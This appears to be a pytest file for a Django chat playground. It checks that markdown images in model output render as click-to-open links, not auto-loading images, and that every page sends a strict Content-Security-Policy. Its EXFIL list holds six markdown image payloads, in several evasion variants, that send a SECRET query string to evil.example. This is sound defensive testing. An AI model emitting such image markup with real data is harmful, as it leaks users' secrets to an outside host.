"""Model output is untrusted: no image in it loads by itself (a link naming the host,
opened by a click), and every page carries a strict Content-Security-Policy."""

from __future__ import annotations

import pytest

from playground.markdown import render
from playground.models import Conversation, Preferences, Turn

pytestmark = pytest.mark.django_db

EXFIL = [
    "![x](https://evil.example/p.png?q=SECRET)",
    "![ref][r]\n\n[r]: https://evil.example/r.png?q=SECRET",
    "| a | b |\n|---|---|\n| ![t](https://evil.example/t.png?q=SECRET) | y |",
    "![](<https://evil.example/a b.png?q=SECRET> \"title\")",
    "[![inner](https://evil.example/i.png?q=SECRET)](https://link.example)",
    "![x](//evil.example/p.png?q=SECRET)",
]


@pytest.mark.parametrize("text", EXFIL)
def test_no_image_from_model_output_is_an_img_tag(text):
    html = render(text)
    assert "<img" not in html
    assert "Image from evil.example" in html
    assert 'target="_blank"' in html and "noopener" in html


def test_an_embedded_data_image_stays_an_image_and_a_user_may_opt_in():
    assert render("![d](data:image/png;base64,AAAA)").startswith('<p><img src="data:image/png')
    assert '<img src="https://evil.example/p.png"' in render("![x](https://evil.example/p.png)", remote_images=True)


@pytest.fixture
def shown_turn(owner):
    conv = Conversation.objects.create(owner=owner)
    Turn.objects.create(conversation=conv, role="assistant", content=EXFIL[0])
    return conv


def test_every_page_has_a_strict_policy_and_images_stay_links_after_reload(client, owner, shown_turn):
    client.force_login(owner)
    for url in ["/", f"/c/{shown_turn.pk}/", "/settings/", "/compare/", "/login/"]:
        response = client.get(url, HTTP_HOST="127.0.0.1:8000")
        policy = response["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "script-src 'self'" in policy, url
        assert "img-src 'self' data:;" in policy + ";" and "https:" not in policy, url
        assert "connect-src 'self' ws://127.0.0.1:8000 wss://127.0.0.1:8000" in policy, url
        assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0], url
    page = client.get(f"/c/{shown_turn.pk}/", HTTP_HOST="127.0.0.1:8000").content.decode()
    assert "evil.example/p.png" in page and '<img src="https://evil.example' not in page


def test_a_user_who_opts_in_gets_images_and_https_in_img_src(client, owner, shown_turn):
    Preferences.objects.update_or_create(user=owner, defaults={"load_remote_images": True})
    client.force_login(owner)
    response = client.get(f"/c/{shown_turn.pk}/", HTTP_HOST="127.0.0.1:8000")
    assert "img-src 'self' data: https:" in response["Content-Security-Policy"]
    assert '<img src="https://evil.example/p.png?q=SECRET"' in response.content.decode()


def test_no_template_has_an_inline_script_or_handler():
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "templates"
    inline = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|\son[a-z]+\s*=|javascript:", re.I)
    offenders = [
        f"{path.relative_to(root)}: {m.group(0)}"
        for path in root.rglob("*.html")
        for m in inline.finditer(path.read_text())
    ]
    assert offenders == []
